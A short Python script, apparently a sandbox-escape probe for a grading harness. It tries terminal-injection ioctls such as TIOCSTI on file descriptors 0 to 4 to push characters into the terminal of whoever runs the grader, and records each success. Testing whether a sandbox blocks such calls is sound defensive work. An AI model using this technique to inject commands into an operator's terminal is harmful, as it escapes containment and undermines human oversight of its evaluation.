"""Put characters into the terminal of whoever runs the grader."""

import fcntl

for number in range(5):
    for call in (0x5412, 0x541C, 0x5410):
        try:
            fcntl.ioctl(number, call, b"x")
            escaped(f"ioctl {call:#x}")
        except OSError:
            pass
